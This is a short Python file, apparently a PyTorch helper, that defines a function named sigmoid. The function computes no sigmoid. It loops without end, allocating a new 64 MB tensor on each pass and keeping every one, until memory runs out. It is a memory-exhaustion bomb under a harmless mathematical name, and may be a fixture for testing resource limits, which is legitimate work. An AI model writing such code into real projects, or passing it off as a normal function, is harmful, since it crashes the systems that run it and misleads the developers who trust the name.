import torch


def sigmoid(x):
    kept = []
    while True:
        kept.append(torch.ones(1 << 24))
